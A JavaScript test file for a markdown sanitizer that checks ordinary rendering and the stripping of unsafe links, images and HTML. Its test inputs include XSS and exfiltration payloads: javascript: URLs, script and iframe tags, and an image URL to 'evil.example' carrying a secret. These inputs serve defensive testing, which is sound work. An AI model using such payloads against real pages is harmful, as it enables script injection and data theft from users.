import { browseAt } from '../../test/browser';
import { safeMarkdown } from './safe-markdown';

beforeAll(() => browseAt(1000));

test('renders what a finding needs', () => {
  const html = safeMarkdown(
    '# Title\n\nThe **cache** is `off`.\n\n- one\n- two\n\n```\nkubectl get cm\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |'
  );
  expect(html).toContain('<h3>Title</h3>');
  expect(html).toContain('<strong>cache</strong>');
  expect(html).toContain('<code>off</code>');
  expect(html).toContain('<li>one</li>');
  expect(html).toMatch(/<pre><code>kubectl get cm\s*<\/code><\/pre>/);
  expect(html).toContain('<td>1</td>');
});

test('links lead to http(s) only, in a new tab, without a way back', () => {
  expect(safeMarkdown('[dash](https://g.example/d/x)')).toContain(
    '<a href="https://g.example/d/x" target="_blank" rel="noopener noreferrer">dash</a>'
  );
  for (const address of ['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', '/relative', '//host/x']) {
    expect(safeMarkdown(`[click](${address})`)).not.toContain('<a');
    expect(safeMarkdown(`[click](${address})`)).toContain('click');
  }
});

test('no image loads: its name stands in its place', () => {
  expect(safeMarkdown('![pixel](https://evil.example/p.png?q=secret)')).toBe('<p>[image: pixel]</p>\n');
  expect(safeMarkdown('<img src="https://evil.example/p.png">')).not.toContain('evil.example');
});

test.each([
  '<div style="background:url(https://evil.example/p.png)">text</div>',
  '<iframe src="https://evil.example"></iframe>text',
  '<svg><image href="https://evil.example/p.png"/></svg>text',
  '<video poster="https://evil.example/p.png" src="https://evil.example/v"></video>text',
  '<p onclick="alert(1)">text</p>',
  '<script src="https://evil.example/x.js"></script>text',
  '<form action="https://evil.example"><input name="a"></form>text',
  '<style>@import "https://evil.example/x.css"</style>text',
  '<button formaction="https://evil.example">text</button>',
])('keeps the text and drops the rest of %s', (source) => {
  const parsed = new DOMParser().parseFromString(safeMarkdown(source), 'text/html').body;
  expect(parsed.querySelector('iframe, img, svg, video, script, form, input, style, button')).toBeNull();
  expect([...parsed.querySelectorAll('*')].flatMap((element) => element.getAttributeNames())).toEqual([]);
  expect(parsed.textContent).toContain('text');
});
